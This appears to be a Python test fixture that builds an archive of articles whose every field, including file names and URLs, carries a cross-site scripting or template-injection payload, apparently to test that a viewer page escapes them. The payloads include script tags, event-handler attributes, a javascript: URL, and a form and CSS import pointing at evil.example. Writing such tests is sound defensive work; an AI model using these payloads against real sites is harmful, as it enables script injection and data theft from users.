"""An archive whose every field attacks the page that shows it."""

from qa.records import Article

from .small_archive import SmallArchive

ATTACKS = (
    "<script>window.attacked = 1</script>",
    '<img src=x onerror="window.attacked = 1">',
    '<img src="https://tracker.example/pixel.png">',
    '<iframe srcdoc="<script>parent.attacked = 1</script>"></iframe>',
    '<svg onload="window.attacked = 1"></svg>',
    '<details open ontoggle="window.attacked = 1">',
    '<form action="https://evil.example"><button>Go</button></form>',
    '<style>@import "https://evil.example/x.css";</style>',
    '" onmouseover="window.attacked = 1" autofocus onfocus="window.attacked = 1',
    "${window.attacked = 1}",
    "{{constructor.constructor('window.attacked = 1')()}}",
    "`;window.attacked = 1;`",
    "\\u003cscript\\u003e \\x3cimg\\x3e @children",
    "&lt;script&gt;window.attacked = 1&lt;/script&gt;",
    "\u202edesrever\u202c",
)
QUESTION = "attacked window " + " ".join(ATTACKS[:1] + ATTACKS[9:12])


def hostile_archive() -> SmallArchive:
    return SmallArchive(tuple(_hostile(number, attack) for number, attack in enumerate(ATTACKS)))


def _hostile(number: int, attack: str) -> Article:
    paragraph = (
        f"The window was attacked {attack} and then, in a sentence long enough to be a passage, {attack} it held."
    )
    return Article(
        file=f"{number}{attack}.txt",
        text=f"{attack}\n\n{paragraph}\n\n{attack}",
        name=attack,
        title=attack,
        outlet=attack,
        date=attack,
        author=attack,
        place=attack,
        section=attack,
        url=f"javascript:window.attacked=1//{attack}",
    )
